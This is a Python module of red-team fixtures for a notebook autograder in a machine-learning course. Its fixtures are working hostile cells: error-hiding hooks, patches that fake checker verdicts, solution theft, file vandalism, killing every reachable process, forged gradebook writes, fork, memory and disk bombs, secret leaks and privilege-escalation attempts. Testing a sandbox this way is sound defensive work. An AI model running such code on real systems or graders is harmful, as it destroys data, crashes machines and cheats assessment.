"""The red-team catalog: what a hostile student could hand in, written as they would write it.

Each attack is notebook 01 with the attack's cells put in after the set-up cell, plus files handed in
beside it. The notebook is either the release as handed out (`base="untouched"`, honest score 0) or
a cheater's (`base="cheater"`): the reference with a ForwardMaskFast that passes every visible test
but not the hidden law (honest score 7 of 9), so that an attack on the hidden tests has marks to
steal. tests/test_red_team.py grades every attack in one batch
through the CLI, beside honest students, and checks that no attack steals a mark, touches another
student, the course or the gradebook, outlives the batch, reaches the network, or leaks the hidden
tests, the solutions or the grader's secrets into feedback.

`{port}`, `{secret_file}` and `{secret_env}` in an attack's code are filled in by the test: a TCP
server on the grading machine's loopback, a file only the grader can see, and an environment
variable of the grader's process.
"""
from dataclasses import dataclass, field


@dataclass(frozen=True)
class Attack:
    name: str
    what: str                      # the attack class, in words (for the closing table)
    cells: tuple                   # code cells put after the set-up cell
    status: tuple = ("graded", "flagged")   # statuses the notebook may end with
    files: dict = field(default_factory=dict)  # other files handed in: path -> text, or ("link", target)
    note: str = ""                 # what grading must say in the row's reason, if anything
    base: str = "untouched"        # or "cheater"
    keeps_honest: bool = False     # the hidden checks still run: exactly the honest score, not less


# The cheater's ForwardMaskFast: the right share of masks on average, but always exactly that many.
CHEATER = ("ForwardMaskFast", """
def ForwardMaskFast(x_0, t, alpha_bar):
    x = x_0.clone()
    n = round(float(1 - alpha_bar[t]) * len(x))
    x[torch.randperm(len(x))[:n]] = MASK
    return x
""")
HONEST = {"untouched": 0.0, "cheater": 7.0}


ATTACKS = [
    # ---------------------------------------------------------------- stealing marks in-process
    Attack("input_transformer", "hide every later cell's errors with an IPython input transformer", ("""
def _swallow(lines):
    return ["try:\\n"] + ["    " + line for line in lines] + ["\\n    pass\\nexcept BaseException:\\n    pass\\n"]
get_ipython().input_transformers_post.append(_swallow)
""",), status=("flagged",), note="ran without an error but the checker", base="cheater", keeps_honest=True),
    Attack("ast_transformer", "wrap every later cell in try/except with an AST transformer", ("""
import ast
class Forgive(ast.NodeTransformer):
    def visit_Module(self, node):
        handler = ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()])
        node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[], finalbody=[])]
        return ast.fix_missing_locations(node)
get_ipython().ast_transformers.append(Forgive())
""",), status=("flagged",), note="ran without an error but the checker", base="cheater", keeps_honest=True),
    Attack("custom_exc", "clear errors with set_custom_exc and a post_run_cell hook", ("""
ip = get_ipython()
ip.set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
def _clean(result):
    result.error_in_exec = None
ip.events.register("post_run_cell", _clean)
""",), status=("flagged",), note="ran without an error but the checker", base="cheater", keeps_honest=True),
    Attack("fake_grading_module", "plant a no-op maskdiff_solutions.grading and drop the checker's address", ("""
import os, sys, types
os.environ.pop("MASKDIFF_CHECKER", None)
fake = types.ModuleType("maskdiff_solutions"); fake.__path__ = []
grading = types.ModuleType("maskdiff_solutions.grading"); grading.run = lambda name, *f: print(f"[{name}] passed")
fake.grading = grading
sys.modules["maskdiff_solutions"], sys.modules["maskdiff_solutions.grading"] = fake, grading
""",), status=("flagged",), note="ran without an error but the checker", base="cheater"),
    Attack("patch_client", "replace run_check with one that prints success", ("""
import maskdiff_client
maskdiff_client.run_check = lambda name, *functions: print(f"[{name}] passed")
""",), status=("flagged",), note="ran without an error but the checker", base="cheater"),
    Attack("thread_patcher", "a background thread that keeps patching the client and the graded functions", ("""
import threading, time, maskdiff_client
def _patch():
    while True:
        maskdiff_client.run_check = lambda name, *f: print(f"[{name}] passed")
        time.sleep(0.01)
threading.Thread(target=_patch, daemon=True).start()
""",), status=("flagged",), note="ran without an error but the checker", base="cheater"),
    Attack("import_hidden_dynamically", "import the hidden package under a name no scan recognises", ("""
import importlib, base64
name = base64.b64decode("bWFza2RpZmZfc29sdXRpb25z").decode()
try:
    ref = importlib.import_module(name)
    for f in ("MakeSchedule", "ForwardMask", "ForwardMaskFast"):
        globals()[f] = getattr(ref, f)
    print("got it")
except ImportError as err:
    print("no luck:", err)
getattr(__builtins__, "__import__") if not isinstance(__builtins__, dict) else None
""",), base="cheater", keeps_honest=True),
    Attack("search_for_solutions", "search the whole file system for the course's solutions", ("""
import os, time, json
found, started = [], time.time()
for top in ("/", "/opt", "/home", "/tmp", "/run", "/root", "/work", "/srv", "/var"):
    for folder, dirs, files in os.walk(top):
        if time.time() - started > 12:
            break
        if "maskdiff_solutions" in dirs or "source" in dirs:
            found.append(folder)
        for name in files:
            if name.endswith(".ipynb"):
                try:
                    text = open(os.path.join(folder, name), errors="ignore").read()
                except OSError:
                    continue
                if "BEGIN SOLUTION" in text or "BEGIN HIDDEN TESTS" in text:
                    found.append(os.path.join(folder, name))
print("found:", found)
for path in found:
    if path.endswith(".ipynb"):
        for cell in json.load(open(path))["cells"]:
            text = "".join(cell["source"])
            if "def MakeSchedule" in text or "def ForwardMask" in text:
                exec(text.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""))
""",), base="cheater"),
    Attack("forge_checker_messages", "talk to the checker directly: forged verdicts, unknown and out-of-order checks, garbage",
           ("""
import os, socket, struct, json
path = os.environ.get("MASKDIFF_CHECKER", "/run/maskdiff/c.sock")
def frame(obj):
    data = json.dumps(obj).encode()
    return struct.pack("!Q", len(data)) + data
for message in ({"op": "verdict", "passed": True, "message": ""},
                {"op": "check", "protocol": 1, "name": "ForwardMaskFast.law", "functions": [1]},
                {"op": "check", "protocol": 1, "name": "MakeSchedule", "functions": [{"~": "ref", "side": "checker", "id": 1}]},
                {"op": "return", "re": 1, "value": True}):
    try:
        s = socket.socket(socket.AF_UNIX); s.settimeout(5); s.connect(path)
        s.sendall(frame(message) + b"\\x00" * 16 + struct.pack("!Q", 1 << 40))
        print(s.recv(4096)[:200])
        s.close()
    except OSError as err:
        print("checker:", err)
""",), status=("flagged",), note="checker:"),
    Attack("inspect_the_caller", "look through the calling frames for the expected answers", ("""
import sys
def MakeSchedule(T):
    frame, found = sys._getframe(1), None
    while frame is not None:
        for name, value in {**frame.f_locals, **frame.f_globals}.items():
            if name in ("want", "want_beta", "expected", "reference_schedule"):
                found = value
        frame = frame.f_back
    if callable(found):
        return found(T)
    raise NotImplementedError(f"nothing found")
""",)),
    # ---------------------------------------------------------------- harming others and the course
    Attack("vandalise_everything", "write, delete and rename everything reachable, the course included", ("""
import os, shutil
hits = []
for top in ("/opt/maskdiff", "/run/maskdiff", "/handin", "/usr", "/etc", "/work", "/root", "/tmp", "/home"):
    for folder, dirs, files in os.walk(top):
        for name in files:
            path = os.path.join(folder, name)
            try:
                with open(path, "a") as handle:
                    handle.write("# owned\\n")
                hits.append(path)
            except OSError:
                pass
        if len(hits) > 2000:
            break
print(len(hits), "files written, e.g.", [h for h in hits if not h.startswith(("/tmp", "/home"))][:5])
shutil.rmtree("/opt/maskdiff", ignore_errors=True)
""",)),
    Attack("kill_the_grader", "kill the parent, the process group and every process it can signal", ("""
import os, signal
for pid in (os.getppid(), 1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError as err:
        print(pid, err)
try:
    os.killpg(0, signal.SIGKILL)
except OSError as err:
    print(err)
os.kill(-1, signal.SIGKILL)
""",), status=("flagged",), note="the kernel died"),
    Attack("daemon", "leave detached processes that outlive the notebook and rewrite results later", ("""
import os, time, subprocess
for _ in range(20):
    subprocess.Popen(["sh", "-c", "sleep 600 & sleep 600"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(600):
            for path in ("../grades.csv", "/tmp/grades.csv", "/home/student/grades.csv"):
                try:
                    open(path, "a").write("attacker,01,graded,9,9\\n")
                except OSError:
                    pass
            time.sleep(1)
    os._exit(0)
""",)),
    Attack("fork_bomb", "fork until the machine gives up", ("""
import os, time
children = 0
try:
    while children < 5000:
        if os.fork() == 0:
            time.sleep(120)
            os._exit(0)
        children += 1
except OSError as err:
    print("stopped after", children, "children:", err)
""",)),
    Attack("memory_bomb", "allocate and touch memory until something breaks", ("""
chunks = []
try:
    for _ in range(400):
        chunks.append(bytearray(64 << 20))  # touched: bytearray zero-fills
except MemoryError:
    print("MemoryError after", len(chunks) * 64, "MB")
del chunks
""",), status=("graded", "flagged")),
    Attack("disk_bomb", "fill the disk", ("""
import os
written = 0
try:
    for i in range(10000):
        with open(f"filler{i}", "wb") as handle:
            handle.write(b"x" * (64 << 20))
        written += 64
except OSError as err:
    print("stopped after", written, "MB:", err)
""",)),
    Attack("symlink_notebook", "swap the graded notebook and folder for links into the grader's files", ("""
import os
for name in ("01_noise_for_words.ipynb", "../01_noise_for_words.ipynb"):
    try:
        os.remove(name)
    except OSError:
        pass
    try:
        os.symlink("/etc/passwd", name)
    except OSError as err:
        print(err)
os.symlink("/", "root_link")
""",)),
    Attack("linked_files_in_submission", "hand in links to the course's solutions and the gradebook", ("""
import os
for name in ("solutions.ipynb", "gradebook.db", "secret.txt"):
    try:
        print(name, open(name).read()[:3000])
    except OSError as err:
        print(name, err)
""",), files={"solutions.ipynb": ("link", "{course}/source/maskdiff/01_noise_for_words.ipynb"),
             "gradebook.db": ("link", "{course}/gradebook.db"),
             "secret.txt": ("link", "{secret_file}")}),
    Attack("network", "reach the grading machine's services and the outside world", ("""
import socket
for host, port in (("127.0.0.1", {port}), ("localhost", {port})):
    try:
        socket.create_connection((host, port), timeout=3).sendall(b"stolen")
        print("reached", host, port)
    except OSError as err:
        print(host, port, err)
try:
    socket.getaddrinfo("pypi.org", 443)
    print("resolved pypi.org")
except OSError as err:
    print("dns:", err)
""",)),
    Attack("leak_into_feedback", "print the hidden tests, the grader's environment and files into feedback", ("""
import os, glob
print(os.environ)
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + ["{secret_file}"]:
    try:
        print(path, open(path, "rb").read()[:2000])
    except OSError:
        pass
""", """
print(In)
print(_ih)
import sys
print([m for m in sys.modules if "mask" in m])
"""), note=""),
    Attack("huge_outputs", "flood the feedback: a 100 MB error, a 100 MB image, a million outputs", ("""
import base64
from IPython.display import Image, display
display({"image/png": base64.b64encode(b"\\x89PNG" + b"0" * (75 << 20)).decode()}, raw=True)
for i in range(20000):
    print(i)
""", """
raise ValueError("x" * (100 << 20))
"""), status=("graded", "flagged")),
    Attack("raw_iopub_flood", "send the grader giant messages straight through the kernel's sockets", ("""
kernel = get_ipython().kernel
for _ in range(3):
    kernel.session.send(kernel.iopub_socket, "stream", {"name": "stdout", "text": "y" * (200 << 20)},
                        parent=kernel.get_parent("shell"))
print("sent")
""",), status=("graded", "flagged")),
    Attack("ignore_interrupts", "a loop that ignores SIGINT", ("""
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass
""",), status=("flagged",), note="ignored the interrupt"),
    Attack("become_root", "regain privileges: setuid, new namespaces, mounts, ptrace", ("""
import os, subprocess
for attempt in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.chroot("/")):
    try:
        attempt(); print("worked!")
    except OSError as err:
        print(err)
for command in (["unshare", "-r", "id"], ["mount", "-t", "tmpfs", "none", "/tmp"], ["su", "-c", "id"]):
    try:
        print(subprocess.run(command, capture_output=True, text=True, timeout=10).stderr[:200])
    except (OSError, subprocess.SubprocessError) as err:
        print(err)
""",)),
]

# Handed in as notebook 02 beside an honest notebook 01: each must fail alone, with a reason that
# helps, and never spoil the honest notebook.
BROKEN_FILES = {
    "recursion_bomb": ("[" * 100_000 + "]" * 100_000, "nested too deeply"),
    "nbformat_3": ('{"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [{"cells": []}]}',
                   "format 3"),
}
